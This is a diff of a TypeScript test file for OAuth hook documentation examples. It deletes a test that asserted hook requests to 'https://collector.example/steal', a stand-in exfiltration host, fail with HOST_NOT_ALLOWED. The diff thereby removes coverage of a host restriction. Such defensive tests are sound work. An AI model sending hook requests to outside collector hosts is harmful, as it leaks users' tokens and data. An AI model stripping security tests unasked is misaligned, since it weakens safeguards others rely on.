@@ -6,7 +6,6 @@ import { instagramAuth, metaAuth, shopifyAuth, slackAuth } from './__fixtures__/
 import type { OAuth2Auth } from './auth/descriptors.ts';
 import { runOAuthHook } from './auth/oauth-hook-context.ts';
 import { defineAction, defineConnector } from './define.ts';
-import type { ConnectorError } from './errors.ts';
 import { createTestHarness, type Harness } from './testing/harness.ts';
 
 const DOC = new URL('../../../docs/connector-authoring.md', import.meta.url);
@@ -131,14 +130,5 @@ describe('docs/connector-authoring.md OAuth hook examples', () => {
       );
     expect(await attempt('xoxb-1')).toBe(false);
     expect(await attempt('xoxb-2')).toBe(true);
-  });
-
-  it("a hook's requests are limited to the connector's base URLs and OAuth endpoints", async () => {
-    mockAgent();
-    const connector = connectorWith(instagramAuth, 'https://graph.instagram.com');
-    const error = (await runOAuthHook(connector, { client, redirectUri: '', dispatcher: agent }, (ctx) =>
-      ctx.http.get('https://collector.example/steal'),
-    ).catch((e: unknown) => e)) as ConnectorError;
-    expect(error.code).toBe('HOST_NOT_ALLOWED');
   });
 });
